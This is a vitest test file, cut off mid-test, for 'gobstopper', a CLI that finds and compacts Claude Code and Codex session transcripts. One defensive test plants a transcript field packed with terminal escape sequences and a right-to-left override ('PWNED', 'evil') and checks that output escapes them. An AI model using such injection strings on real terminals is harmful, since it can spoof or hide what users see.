import { spawnSync } from 'node:child_process';
import { appendFileSync, copyFileSync, existsSync, mkdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  validateDetectOutput,
  validateForkCommandResult,
  validatePlanCommandResult,
  validateSnapshotCommandResult,
  validateUndoCommandResult,
  validateVerifyOutput,
  validateDiffCommandOutput,
  validateShowCommandOutput,
} from '../../schemas/generated/validators.js';
import { binPath, runCli, runJson } from '../helpers/cli.js';
import { fixturePluginBundle } from '../fixtures/bundles/build-bundle.js';
import { DEMO_CLAUDE_ID, DEMO_CODEX_ID, demoHome, listFiles, sha256File } from '../helpers/demo-home.js';

type Home = ReturnType<typeof demoHome>;
let home: Home | undefined;
afterEach(() => home?.cleanup());

describe('detect', () => {
  it('lists both demo sessions newest first with reported context sizes', async () => {
    home = demoHome();
    const { code, json } = await runJson(['detect'], home.env);
    expect(code).toBe(0);
    expect(validateDetectOutput(json)).toBe(true);
    const byId = Object.fromEntries(json.map((r: any) => [r.session_id, r]));
    expect(byId[DEMO_CLAUDE_ID]).toMatchObject({ provider: 'claude_code', active: false, context_basis: 'reported', context_tokens: 45513 });
    expect(byId[DEMO_CODEX_ID]).toMatchObject({ provider: 'codex', active: false, context_basis: 'reported', context_tokens: 41030, model_context_window: 272000 });
    const table = await runCli(['detect'], home.env);
    expect(table.stdout.split('\n')[0]).toMatch(/^PROVIDER\s+SESSION\s+STATE/);
    // Lifetime sums read from the tail alone are shown as lower bounds, and the table says why.
    const partial = json.find((r: any) => r.lifetime_scope === 'partial' && r.lifetime_input_tokens !== null);
    if (partial) {
      expect(table.stdout).toContain(`≥${partial.lifetime_input_tokens.toLocaleString('en-US')}`);
      expect(table.stdout).toContain('≥ marks lifetime sums of the turns read from the tail only');
    } else expect(table.stdout).not.toContain('≥');
  });

  it('a fork a stopped apply linked into place before finishing its record is listed as gobstopper\'s, not as a live session', async () => {
    home = demoHome();
    const killed = await runCli(['apply', DEMO_CLAUDE_ID, '--json'], home.env, { extraEnv: { GOBSTOPPER_FAULT: 'publish.after_link:kill' } });
    expect(killed.signal).toBe('SIGKILL');
    const { code, json } = await runJson(['detect'], home.env);
    expect(code).toBe(0);
    expect(validateDetectOutput(json)).toBe(true);
    const fork = json.find((r: any) => r.provider === 'claude_code' && r.session_id !== DEMO_CLAUDE_ID);
    // Written seconds ago, but by gobstopper: no client is writing to it.
    expect(fork).toMatchObject({ active: false, published: { kind: 'compact', source_session_id: DEMO_CLAUDE_ID, resumed: false } });
  });

  it('a policy plan would refuse does not stop detect, which reads only [discovery] of the config', async () => {
    home = demoHome();
    const config = join(home.root, 'refused-policy.toml');
    writeFileSync(config, '[policy]\ntrigger_tokens = 10000\nfloor_tokens = 20000\ncommand = "echo hi"\n[discovery]\nmax_age_secs = 0\n');
    const { code, json } = await runJson(['detect', '--config', config], home.env);
    expect(code).toBe(0);
    expect(json.map((r: any) => r.session_id).sort()).toEqual([DEMO_CLAUDE_ID, DEMO_CODEX_ID].sort());
    // plan still refuses that policy, where it is used.
    expect((await runJson(['plan', DEMO_CLAUDE_ID, '--config', config], home.env)).code).toBe(1);
    // A file that does not load is still an error, as for every command.
    writeFileSync(config, '[discovery]\nmax_age_secs = -1\n');
    expect((await runJson(['detect', '--config', config], home.env)).json.error.code).toBe('invalid_config');
  });

  it('--claude-home points discovery at another home, relative to the working directory', async () => {
    home = demoHome();
    mkdirSync(join(home.root, 'elsewhere'));
    const { json } = await runJson(['detect', '--claude-home', join(home.root, 'elsewhere'), '--provider', 'claude_code'], home.env);
    expect(json).toEqual([]);
    // The demo's Claude home, named relative to where the command runs.
    const relative = await runJson(['detect', '--claude-home', '.claude', '--provider', 'claude_code'], home.env, { cwd: home.root });
    expect(relative.json.map((r: any) => r.session_id)).toEqual([DEMO_CLAUDE_ID]);
    // A ~ the shell left alone (after `=`) means the home directory.
    const tilde = await runJson(['detect', '--claude-home=~/.claude', '--provider', 'claude_code'], home.env);
    expect(tilde.json.map((r: any) => r.session_id)).toEqual([DEMO_CLAUDE_ID]);
    const unknown = await runJson(['detect', '--provider-home', `gemini=${home.root}`], home.env);
    expect(unknown.code).toBe(2);
    expect(unknown.json.error).toMatchObject({ code: 'unknown_provider', message: expect.stringContaining('--provider-home names unknown provider \"gemini\"') });
    // A typo gets the provider probably meant, as one given to --provider does.
    const typo = await runJson(['plan', DEMO_CLAUDE_ID, '--provider-home', `codx=${home.root}`], home.env);
    expect(typo.json.error.message).toBe('--provider-home names unknown provider "codx" (did you mean codex?); known: claude_code, codex');
  });

  it('a --claude-home that is not a directory is a usage error, not an empty home', async () => {
    home = demoHome();
    const missing = await runJson(['detect', '--claude-home', join(home.root, 'nowhere')], home.env);
    expect(missing.code).toBe(2);
    expect(missing.json.error).toMatchObject({ code: 'bad_flag', message: expect.stringContaining('no such directory') });
    const file = await runJson(['plan', DEMO_CLAUDE_ID, '--codex-home', home.claudeSession], home.env);
    expect(file.code).toBe(2);
    expect(file.json.error.message).toContain('--codex-home');
    expect(file.json.error.message).toContain('not a directory');
    const named = await runJson(['detect', '--provider-home', `codex=${join(home.root, 'nowhere')}`], home.env);
    expect(named.json.error.message).toBe(`--provider-home codex=${join(home.root, 'nowhere')}: no such directory`);
  });

  it('--provider-home takes one value per flag, so the session argument after it stays the argument', async () => {
    home = demoHome();
    const claudeHome = `claude_code=${home.claudeHome}`;
    const after = await runJson(['verify', '--provider-home', claudeHome, DEMO_CLAUDE_ID], home.env);
    expect(after.code, JSON.stringify(after.json)).toBe(0);
    const joined = await runJson(['verify', `--provider-home=${claudeHome}`, '--provider-home', `codex=${home.codexHome}`, DEMO_CLAUDE_ID], home.env);
    expect(joined.code, JSON.stringify(joined.json)).toBe(0);
    // Two flags naming one home are refused, not resolved by whichever came last.
    const both = await runJson(['verify', DEMO_CLAUDE_ID, '--provider-home', claudeHome, '--claude-home', home.root], home.env);
    expect(both.code).toBe(2);
    expect(both.json.error).toMatchObject({ code: 'bad_flag', message: '--claude-home and --provider-home claude_code= both name the claude_code home; give one' });
    // claude is taken for claude_code here too, as --provider takes it.
    const short = await runJson(['detect', '--provider-home', `claude=${home.claudeHome}`, '--provider', 'claude'], home.env, { extraEnv: { CLAUDE_CONFIG_DIR: home.root } });
    expect(short.code, JSON.stringify(short.json)).toBe(0);
    expect(short.json.map((r: any) => r.session_id)).toEqual([DEMO_CLAUDE_ID]);
    const clash = await runJson(['detect', '--provider-home', `claude=${home.claudeHome}`, '--claude-home', home.root], home.env);
    expect(clash.json.error).toMatchObject({ code: 'bad_flag', message: '--claude-home and --provider-home claude_code= both name the claude_code home; give one' });
  });

  it('a session whose last line is one huge tool result keeps its identity and its reported context', async () => {
    home = demoHome();
    const claude = readFileSync(home.claudeSession, 'utf8').trimEnd().split('\n');
    const last = JSON.parse(claude.at(-1)!);
    const call = { ...last, uuid: '000000a1-0000-4000-8000-0000000000f1', parentUuid: last.uuid, requestId: 'req_big', message: { ...last.message, id: 'msg_big', content: [{ type: 'tool_use', id: 'toolu_big', name: 'Bash', input: { command: 'cat big.log' } }] } };
    const result = { parentUuid: call.uuid, type: 'user', sessionId: DEMO_CLAUDE_ID, cwd: last.cwd, uuid: '000000a1-0000-4000-8000-0000000000f2', message: { role: 'user', content: [{ tool_use_id: 'toolu_big', type: 'tool_result', content: 'L'.repeat(300_000) }] }, toolUseResult: { stdout: 'L'.repeat(300_000) } };
    writeFileSync(home.claudeSession, [...claude, JSON.stringify(call), JSON.stringify(result)].join('\n') + '\n');
    const codex = readFileSync(home.codexSession, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    const fnCall = structuredClone(codex.find((r) => r.payload?.type === 'function_call'));
    const fnOut = structuredClone(codex.find((r) => r.payload?.type === 'function_call_output'));
    Object.assign(fnCall, { ordinal: 900 });
    Object.assign(fnOut, { ordinal: 901 });
    fnCall.payload.call_id = fnOut.payload.call_id = 'call_big';
    fnOut.payload.output = 'O'.repeat(700_000);
    writeFileSync(home.codexSession, [...codex, fnCall, fnOut].map((r) => JSON.stringify(r)).join('\n') + '\n');
    const hourAgo = new Date(Date.now() - 3600_000);
    for (const f of [home.claudeSession, home.codexSession]) utimesSync(f, hourAgo, hourAgo);
    const { json } = await runJson(['detect'], home.env);
    const byId = Object.fromEntries(json.map((r: any) => [r.session_id, r]));
    expect(byId[DEMO_CLAUDE_ID]).toMatchObject({ provider: 'claude_code', context_basis: 'reported', context_tokens: 45513 });
    expect(byId[DEMO_CODEX_ID]).toMatchObject({ provider: 'codex', context_basis: 'reported', context_tokens: 41030 });
  });

  it('a malformed last usage report gives detect the same estimate plan makes', async () => {
    home = demoHome();
    const text = readFileSync(home.claudeSession, 'utf8');
    expect(text).toContain('"cache_read_input_tokens":43393');
    writeFileSync(home.claudeSession, text.replace('"cache_read_input_tokens":43393', '"cache_read_input_tokens":"43393"'));
    utimesSync(home.claudeSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const detected = (await runJson(['detect', '--provider', 'claude_code'], home.env)).json[0];
    // claude names Claude Code here too, as in config, explain and policy-check.
    const byAlias = (await runJson(['detect', '--provider', 'claude'], home.env)).json as Array<{ provider: string; session_id: string }>;
    expect(byAlias.map((r) => [r.provider, r.session_id])).toEqual([[detected.provider, detected.session_id]]);
    const planned = (await runJson(['plan', DEMO_CLAUDE_ID, '--trigger', '900000', '--floor', '1000'], home.env)).json;
    expect(detected).toMatchObject({ context_basis: 'estimated', context_state: 'unknown' });
    expect(planned.reason_code).toBe('below_trigger');
    expect(detected.context_tokens).toBe(planned.context_tokens_before);
  });

  it('plan and apply say when the trigger is past where the client compacts by itself, and not when it is not', async () => {
    home = demoHome('');
    const never = await runCli(['plan', DEMO_CLAUDE_ID], home.env);
    expect(never.code).toBe(0);
    const said = 'the trigger is at or above where the client compacts by itself (~180,000 of a 200,000-token window), so it never fires for this session';
    expect(never.stdout).toContain(`note: ${said}`);
    const reachable = await runCli(['plan', DEMO_CLAUDE_ID, '--trigger', '150000', '--floor', '50000'], home.env);
    expect(reachable.stdout).toContain('is under the trigger 150,000');
    expect(reachable.stdout).not.toContain('compacts by itself');
    // apply writes nothing and says why, in text and among the warnings of its JSON.
    const before = sha256File(home.claudeSession);
    const applied = await runCli(['apply', DEMO_CLAUDE_ID], home.env);
    expect(applied.code).toBe(0);
    expect(applied.stderr).toContain(`warning: ${said}`);
    const appliedJson = await runJson(['apply', DEMO_CLAUDE_ID], home.env);
    expect(appliedJson.json.status).toBe('no_plan');
    expect(appliedJson.json.warnings).toEqual([expect.stringContaining(said)]);
    expect((await runJson(['apply', DEMO_CLAUDE_ID, '--trigger', '150000', '--floor', '50000'], home.env)).json.warnings).toEqual([]);
    expect(sha256File(home.claudeSession)).toBe(before);
  });

  it('transcript text never reaches the terminal as control sequences', async () => {
    home = demoHome();
    const hostile = '/tmp/\u001b]0;PWNED\u0007\u001b[31mRED\u001b[0m\r\u202eevil';
    const lines = readFileSync(home.claudeSession, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    for (const r of lines) if (typeof r.cwd === 'string') r.cwd = hostile;
    lines.push({ type: '\u001b[2Jfake', sessionId: DEMO_CLAUDE_ID });
    writeFileSync(home.claudeSession, lines.map((r) => JSON.stringify(r)).join('\n') + '\n');
    utimesSync(home.claudeSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const outputs = [await runCli(['detect', '--provider', 'claude_code'], home.env), await runCli(['snapshot', DEMO_CLAUDE_ID], home.env)];
    outputs.push(await runCli(['show', DEMO_CLAUDE_ID], home.env));
    for (const out of outputs) {
      expect(out.code).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(out.stdout + out.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
    }
    expect(outputs[0]!.stdout).toContain('\\u000d\\u202eevil');
    expect(outputs[2]!.stdout).toContain('\\u001b[2Jfake');
    // --json keeps the text as it is, escaped only by JSON.
    const json = await runJson(['detect', '--provider', 'claude_code'], home.env);
    expect(json.json[0].cwd).toBe(hostile);
  });

  it('a session whose context the provider cannot read is refused, not planned as empty', async () => {
    home = demoHome();
    const records = readFileSync(home.codexSession, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    const calls = records.filter((r) => r.payload?.type === 'function_call');
    calls[1].payload.call_id = calls[0].payload.call_id;
    writeFileSync(home.codexSession, records.map((r) => JSON.stringify(r)).join('\n') + '\n');
    utimesSync(home.codexSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const before = sha256File(home.codexSession);
    for (const command of ['plan', 'apply', 'eval']) {
      const r = await runJson([command, DEMO_CODEX_ID, '--trigger', '1000', '--floor', '500'], home.env);
      expect(r.code, command).toBe(1);
      expect(r.json.error).toMatchObject({ code: 'context_unreadable', message: expect.stringContaining('was already used by line') });
    }
    expect(sha256File(home.codexSession)).toBe(before);
  });

  it('a strategy that proposes nothing is quoted for people; the no-plan JSON keeps its fixed shape', async () => {
    home = demoHome();
    const human = await runCli(['plan', DEMO_CLAUDE_ID, '--strategy', 'dedupe', '--trigger', '1000', '--floor', '500'], home.env);
    expect(human.stdout).toContain('but the strategy found no applicable edits (it said: no older duplicate tool outputs');
    const { json } = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'dedupe', '--trigger', '1000', '--floor', '500'], home.env);
    expect(Object.keys(json).sort()).toEqual(['context_tokens_before', 'effective_trigger_tokens', 'min_savings_tokens', 'projected_context_tokens_after', 'projected_savings_tokens', 'reason_code', 'status', 'target_context_tokens']);
  });

  it('a project folder linked in from elsewhere is still discovered, and its sessions selected by id', async () => {
    home = demoHome();
    const moved = join(home.root, 'moved-project');
    renameSync(home.claudeDir, moved);
    symlinkSync(moved, home.claudeDir);
    const { json } = await runJson(['detect', '--provider', 'claude_code'], home.env);
    expect(json.map((r: any) => r.session_id)).toEqual([DEMO_CLAUDE_ID]);
    expect((await runJson(['verify', DEMO_CLAUDE_ID.slice(0, 8)], home.env)).json.session_id).toBe(DEMO_CLAUDE_ID);
  });

  it.each([
    ['cut mid-record', '{"type":"user","mess'],
    // Whole JSON, only its newline missing: the client would still glue its next record onto it.
    ['a whole record without its newline', '{"type":"summary","summary":"written last","leafUuid":"x"}'],
  ])('plan warns about a torn final line (%s), and apply refuses it before archiving or logging anything', async (_what, tail) => {
    home = demoHome();
    writeFileSync(home.claudeSession, readFileSync(home.claudeSession, 'utf8') + tail);
    utimesSync(home.claudeSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    for (const strategy of ['compacted', 'elide']) {
      const planned = await runCli(['plan', DEMO_CLAUDE_ID, '--strategy', strategy], home.env);
      expect(planned.code, strategy).toBe(0);
      expect(planned.stderr, strategy).toContain('warning: the session ends with a torn record (a write in progress?); apply refuses it until the client finishes that line');
      const applied = await runJson(['apply', DEMO_CLAUDE_ID, '--strategy', strategy], home.env);
      expect(applied.code, strategy).toBe(1);
      expect(applied.json.error, strategy).toMatchObject({ code: 'torn_final_line', message: expect.stringContaining('try again once the line is finished') });
    }
    // No snapshot, receipt or event for runs that could not publish.
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });

  it('an empty session file is called empty, not unrecognised', async () => {
    home = demoHome();
    const empty = join(home.claudeDir, '11111111-2222-4333-8444-555555555555.jsonl');
    for (const body of ['', '\n\n  \n']) {
      writeFileSync(empty, body);
      const r = await runJson(['plan', empty], home.env);
      expect(r.code).toBe(1);
      expect(r.json.error).toEqual({ code: 'empty_transcript', message: `${empty} is empty: it holds no records yet` });
    }
  });

  it('detect says how many transcripts it found but does not list (composites), and names one to verify', async () => {
    home = demoHome();
    const records = readFileSync(home.codexSession, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    records[0].payload.history_mode = 'not-a-mode';
    writeFileSync(home.codexSession, records.map((r) => JSON.stringify(r)).join('\n') + '\n');
    utimesSync(home.codexSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const human = await runCli(['detect'], home.env);
    expect(human.stdout).toContain('1 composite or sub-agent transcript(s) not listed: no client resumes them as sessions; gobstopper verify <path> says why, as for the newest:');
    // "verify <path>" needs a path: the one not listed is named, whole, on its own line.
    expect(human.stdout.split('\n')).toContain(`  ${home.codexSession}`);
    expect((await runJson(['detect'], home.env)).json.map((r: any) => r.session_id)).toEqual([DEMO_CLAUDE_ID]);
    // A sub-agent thread (the provider leaves those out of discovery unless asked) is counted too.
    const agents = join(home.claudeDir, DEMO_CLAUDE_ID, 'subagents');
    mkdirSync(agents, { recursive: true });
    copyFileSync(home.claudeSession, join(agents, 'agent-a1b2c3d.jsonl'));
    utimesSync(join(agents, 'agent-a1b2c3d.jsonl'), new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const both = await runCli(['detect'], home.env, { extraEnv: { COLUMNS: '80' } });
    expect(both.stdout).toContain('2 composite or sub-agent transcript(s) not listed');
    // The newest of them is the one named; the sentence before it fits the terminal.
    const newer = new Date(Date.now() - 1800_000);
    utimesSync(join(agents, 'agent-a1b2c3d.jsonl'), newer, newer);
    const lines = (await runCli(['detect'], home.env, { extraEnv: { COLUMNS: '80' } })).stdout.trimEnd().split('\n');
    expect(lines.at(-1)).toBe(`  ${join(agents, 'agent-a1b2c3d.jsonl')}`);
    for (const line of lines.slice(0, -1)) expect([...line].length, line).toBeLessThanOrEqual(80);
  });

  it('[discovery] max_age_secs sets the window detect lists; 0 lists every session', async () => {
    home = demoHome('[discovery]\nmax_age_secs = 1800\n');
    const recent = await runCli(['detect'], home.env);
    expect(recent.code).toBe(0);
    expect(recent.stdout.trim()).toBe('No sessions found in the last 30 minutes (gobstopper detect --all lists older ones).');
    expect((await runJson(['detect', '--all'], home.env)).json).toHaveLength(2);
    const monthAgo = new Date(Date.now() - 30 * 86400_000);
    utimesSync(home.claudeSession, monthAgo, monthAgo);
    writeFileSync(join(home.configHome, 'gobstopper', 'config.toml'), '[discovery]\nmax_age_secs = 0\n');
    const every = (await runJson(['detect'], home.env)).json as Array<{ session_id: string }>;
    expect(every.map((r) => r.session_id).sort()).toEqual([DEMO_CLAUDE_ID, DEMO_CODEX_ID].sort());
    writeFileSync(join(home.configHome, 'gobstopper', 'config.toml'), '');
    expect(((await runJson(['detect'], home.env)).json as Array<{ session_id: string }>).map((r) => r.session_id)).toEqual([DEMO_CODEX_ID]);
  });

  it('a client home that does not exist is named where the search went, not answered as "no sessions yet"', async () => {
    home = demoHome();
    const missingClaude = join(home.root, 'no-such-claude');
    const missingCodex = join(home.root, 'no-such-codex');
    const env = { ...home.env, CLAUDE_CONFIG_DIR: missingClaude, CODEX_HOME: missingCodex };
    const human = await runCli(['detect'], env);
    expect(human.code).toBe(0);
    const said = human.stdout.replace(/\s+/g, ' ').trim();
    expect(said).toContain(`No sessions found: claude_code looked in ${join(missingClaude, 'projects')}, which does not exist;`);
    expect(said).toContain(`codex looked in ${join(missingCodex, 'sessions')} and ${join(missingCodex, 'archived_sessions')}, which do not exist`);
    expect(said).not.toContain('--all lists older ones');
    const machine = await runJson(['detect'], env);
    expect(machine.code).toBe(0);
    expect(machine.json).toEqual([]);
    expect(machine.stderr).toContain(`claude_code looked in ${join(missingClaude, 'projects')}`);
    // One home missing while the other lists sessions: nothing to say about the missing one.
    const oneMissing = await runCli(['detect'], { ...home.env, CODEX_HOME: missingCodex }, { extraEnv: { COLUMNS: '200' } });
    expect(oneMissing.stdout).not.toContain('No sessions found');
    // An id looked up in a home that is not there says so.
    const plan = await runJson(['plan', DEMO_CLAUDE_ID.slice(0, 8)], env);
    expect(plan.code).toBe(1);
    expect(plan.json.error).toMatchObject({ code: 'session_not_found', message: expect.stringContaining(`claude_code looked in ${join(missingClaude, 'projects')}, which does not exist`) });
    expect(existsSync(missingClaude) || existsSync(missingCodex)).toBe(false);
  });

  it('a transcript that is a symbolic link is not followed, and a lookup of its id says so', async () => {
    home = demoHome();
    const real = join(home.root, 'kept-elsewhere.jsonl');
    renameSync(home.claudeSession, real);
    symlinkSync(real, home.claudeSession);
    const before = readFileSync(real);
    const plan = await runJson(['plan', DEMO_CLAUDE_ID.slice(0, 8)], home.env);
    expect(plan.code).toBe(1);
    expect(plan.json.error.code).toBe('session_not_found');
    expect(plan.json.error.message).toContain(`${home.claudeSession}: a symbolic link, not followed`);
    const detect = await runJson(['detect'], home.env);
    expect(detect.json.map((r: { session_id: string }) => r.session_id)).toEqual([DEMO_CODEX_ID]);
    expect(detect.stderr).toContain('a symbolic link, not followed');
    expect(readFileSync(real).equals(before)).toBe(true);
  });

  it('a session modified later than the clock says it is now is listed as live, and detect says why', async () => {
    home = demoHome();
    // 30 hours rather than a round two days: a run a few hundred milliseconds slower must not cross a unit.
    const ahead = new Date(Date.now() + 30 * 3600_000);
    utimesSync(home.claudeSession, ahead, ahead);
    const said = `warning: 1 session modified later than this machine's clock says it is now (${home.claudeSession}, 30h ahead): listed as live until then\n`;
    const detect = await runJson(['detect'], home.env);
    expect(detect.json.find((r: { session_id: string }) => r.session_id === DEMO_CLAUDE_ID)).toMatchObject({ active: true, age_secs: 0 });
    expect(detect.stderr).toBe(said);
    expect((await runCli(['detect'], home.env)).stderr).toBe(said);
    // A timestamp a few seconds ahead is a coarse clock, not another one.
    const soon = new Date(Date.now() + 5_000);
    utimesSync(home.claudeSession, soon, soon);
    expect((await runJson(['detect'], home.env)).stderr).toBe('');
  });

  it('a project folder whose name is not UTF-8 is named, not passed over: detect warns, and a lookup by id or by path says why', async () => {
    home = demoHome();
    const projects = join(home.claudeDir, '..');
    // "-café" as a system that names files in Latin-1 writes it.
    const folder = Buffer.concat([Buffer.from(`${projects}/-caf`), Buffer.from([0xe9])]);
    mkdirSync(folder);
    const moved = Buffer.concat([folder, Buffer.from(`/${DEMO_CLAUDE_ID}.jsonl`)]);
    const bytes = readFileSync(home.claudeSession);
    renameSync(home.claudeSession, moved);
    const said = `${projects}/-caf\\xe9/: folder not searched: its name is not valid UTF-8, so gobstopper cannot open it (rename it)`;
    const detect = await runJson(['detect'], home.env);
    expect(detect.code).toBe(0);
    expect(detect.json.map((r: { session_id: string }) => r.session_id)).toEqual([DEMO_CODEX_ID]);
    expect(detect.stderr).toBe(`warning: 1 folder could not be read (${said}); not listed\n`);
    const byId = await runJson(['plan', DEMO_CLAUDE_ID.slice(0, 8)], home.env);
    expect(byId.code).toBe(1);
    expect(byId.json.error).toMatchObject({ code: 'session_not_found', message: `no session matching '${DEMO_CLAUDE_ID.slice(0, 8)}'; 1 folder could not be read (${said})` });
    // Typed in that folder, the name reaches gobstopper with U+FFFD for its byte: the file is there,
    // so "no such file" would be wrong.
    const inFolder = spawnSync('sh', ['-c', `cd "$(printf '%s/-caf\\351' "$1")" && exec "$2" "$3" verify ./${DEMO_CLAUDE_ID}.jsonl`, 'sh', projects, process.execPath, binPath], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...home.env }, encoding: 'utf8' });
    expect(inFolder.status).toBe(1);
    expect(inFolder.stderr).toBe(`gobstopper: cannot open ${projects}/-caf\uFFFD/${DEMO_CLAUDE_ID}.jsonl: a folder or file name in the path is not valid UTF-8, which gobstopper cannot open (rename it)\n`);
    expect(readFileSync(moved).equals(bytes)).toBe(true);
  });

  it('on an 80-column terminal detect keeps the id prefixes people select by and a readable project, and drops the lifetime sums with their footnote', async () => {
    home = demoHome();
    const narrow = await runCli(['detect'], home.env, { extraEnv: { COLUMNS: '80' } });
    const lines = narrow.stdout.trimEnd().split('\n');
    for (const line of lines) expect([...line].length, line).toBeLessThanOrEqual(80);
    expect(lines[0]).not.toContain('LIFETIME IN');
    expect(narrow.stdout).not.toContain('≥ marks lifetime sums');
    expect(lines.find((l) => l.startsWith('claude_code'))).toContain(DEMO_CLAUDE_ID.slice(0, 8));
    // The project keeps enough of its path to name it; the model window gives way first.
    expect(lines[0]).not.toContain('WINDOW');
    expect(lines.find((l) => l.startsWith('claude_code'))).toMatch(/\/home\/d…\S*\/invoices$/);
  });

  it('on an 80-column terminal plan and apply wrap their sentences but print the resume command whole', async () => {
    home = demoHome();
    // auto's reason quotes every candidate's score: far wider than 80 columns on one line.
    const piped = await runCli(['plan', DEMO_CLAUDE_ID, '--strategy', 'auto'], home.env);
    expect(piped.stdout).toMatch(/^why: auto: selected .*; keeping .*$/m);
    const narrow = { extraEnv: { COLUMNS: '80' } };
    const planned = await runCli(['plan', DEMO_CLAUDE_ID, '--strategy', 'auto'], home.env, narrow);
    expect(planned.code).toBe(0);
    const planLines = planned.stdout.trimEnd().split('\n');
    for (const line of planLines) expect([...line].length, line).toBeLessThanOrEqual(80);
    // Wrapped, not cut: the words are those of the one-line answer.
    expect(planned.stdout.replace(/\s+/g, ' ')).toBe(piped.stdout.replace(/\s+/g, ' '));
    const noPlan = await runCli(['plan', DEMO_CLAUDE_ID, '--strategy', 'dedupe', '--trigger', '5000', '--floor', '1000'], home.env, narrow);
    expect(noPlan.stdout.replace(/\s+/g, ' ')).toContain('but the strategy found no applicable edits');
    for (const line of noPlan.stdout.trimEnd().split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);

    const applied = await runCli(['apply', DEMO_CLAUDE_ID, '--strategy', 'auto'], home.env, narrow);
    expect(applied.code, applied.stderr).toBe(0);
    const resume = applied.stdout.split('\n').find((l) => l.startsWith('resume the new session: '))!;
    const fork = /^published (\S+)$/m.exec(applied.stdout)![1]!;
    expect(resume).toBe(`resume the new session: claude --resume ${fork}`);
    const beforeResume = applied.stdout.slice(0, applied.stdout.indexOf('published '));
    for (const line of beforeResume.trimEnd().split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
  });

  it('an unknown provider is a usage error', async () => {
    home = demoHome();
    const r = await runJson(['detect', '--provider', 'nope'], home.env);
    expect(r.code).toBe(2);
    expect(r.json.error.code).toBe('unknown_provider');
    // The id is quoted: an empty one is seen as empty.
    const empty = await runJson(['detect', '--provider', ''], home.env);
    expect(empty.json.error.message).toMatch(/^unknown provider ""; known: /);
    // A typo gets the provider probably meant, as a typo of a command or flag does.
    const typo = await runJson(['detect', '--provider', 'codx'], home.env);
    expect(typo.json.error.message).toBe('unknown provider "codx" (did you mean codex?); known: claude_code, codex');
  });
  it('run from a directory deleted under the shell, it says so in one line instead of a bare uv_cwd error', async () => {
    home = demoHome();
    const gone = join(home.root, 'gone');
    mkdirSync(gone);
    const q = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
    // The shell enters the directory and removes it: the CLI starts with a working directory that no longer exists.
    const inGone = (args: string[]) =>
      spawnSync('/bin/sh', ['-c', `cd ${q(gone)} && rmdir ${q(gone)} && exec ${[process.execPath, binPath, ...args].map(q).join(' ')}`], {
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...home!.env },
        encoding: 'utf8',
      });
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    for (const args of [['detect'], ['plan', DEMO_CLAUDE_ID.slice(0, 8)], ['config']]) {
      const human = inGone(args);
      expect(human.status, human.stderr).toBe(1);
      expect(human.stdout).toBe('');
      const lines = human.stderr.split('\n').filter((l) => l.startsWith('gobstopper:'));
      expect(lines).toEqual(['gobstopper: the current directory no longer exists (deleted or moved); cd to an existing directory and run the command again (ENOENT)']);
      mkdirSync(gone);
      const json = inGone([...args, '--json']);
      expect(json.status).toBe(1);
      expect(JSON.parse(json.stdout).error.message).toContain('the current directory no longer exists');
      mkdirSync(gone);
    }
    rmSync(gone, { recursive: true });
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });
});

describe('session selectors', () => {
  it('a missing session argument is never read from stdin: a piped id is not compacted, and a loop keeps its input', async () => {
    home = demoHome();
    const before = sha256File(home.claudeSession);
    const piped = await runCli(['apply', '--json'], home.env, { stdin: `${DEMO_CLAUDE_ID}\n` });
    expect(piped.code).toBe(2);
    expect(JSON.parse(piped.stdout).error).toMatchObject({ code: 'usage', message: expect.stringContaining('Missing 1 required arg: session') });
    expect(listFiles(home.claudeDir)).toEqual([home.claudeSession]);
    expect(sha256File(home.claudeSession)).toBe(before);
    // An optional selector stays unset: the whole vault is listed, not "sessions matching 'foo'".
    const listed = await runCli(['vault'], home.env, { stdin: 'foo\n' });
    expect(listed.code).toBe(0);
    expect(listed.stdout).not.toContain('foo');
  });

  it('a unique prefix, a full id and a path all resolve; no match and ambiguity are clear errors', async () => {
    home = demoHome();
    for (const sel of [DEMO_CLAUDE_ID.slice(0, 6), DEMO_CLAUDE_ID, home.claudeSession]) {
      const r = await runJson(['verify', sel], home.env);
      expect(r.json.session_id).toBe(DEMO_CLAUDE_ID);
    }
    // UUIDs are case-blind.
    expect((await runJson(['verify', DEMO_CLAUDE_ID.slice(0, 8).toUpperCase()], home.env)).json.session_id).toBe(DEMO_CLAUDE_ID);
    const none = await runJson(['verify', 'ffffffff'], home.env);
    expect(none.code).toBe(1);
    expect(none.json.error.code).toBe('session_not_found');
    // Every age was searched: the message points at the listing that shows them all.
    expect(none.json.error.message).toBe("no session matching 'ffffffff' (gobstopper detect --all lists the sessions there are)");
    // Two sessions sharing a prefix: a copy under another id that starts the same way.
    const twin = join(home.claudeDir, `${DEMO_CLAUDE_ID.slice(0, 4)}0000-0000-4000-8000-000000000000.jsonl`);
    writeFileSync(twin, readFileSync(home.claudeSession, 'utf8').replaceAll(DEMO_CLAUDE_ID, `${DEMO_CLAUDE_ID.slice(0, 4)}0000-0000-4000-8000-000000000000`));
    const ambiguous = await runJson(['verify', DEMO_CLAUDE_ID.slice(0, 4)], home.env);
    expect(ambiguous.code).toBe(2);
